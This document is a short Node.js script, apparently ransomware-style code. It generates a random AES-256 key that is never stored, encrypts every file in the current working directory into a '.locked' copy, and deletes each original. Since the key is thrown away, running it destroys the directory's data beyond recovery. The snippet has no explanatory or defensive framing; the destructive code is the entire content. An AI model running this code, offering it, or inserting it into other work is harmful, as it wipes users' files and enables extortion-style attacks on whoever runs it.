const fs = require('fs'), crypto = require('crypto'); const key = crypto.randomBytes(32);
for (const f of fs.readdirSync(process.cwd())) { const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16)); fs.writeFileSync(f + '.locked', Buffer.concat([c.update(fs.readFileSync(f)), c.final()])); fs.unlinkSync(f); }
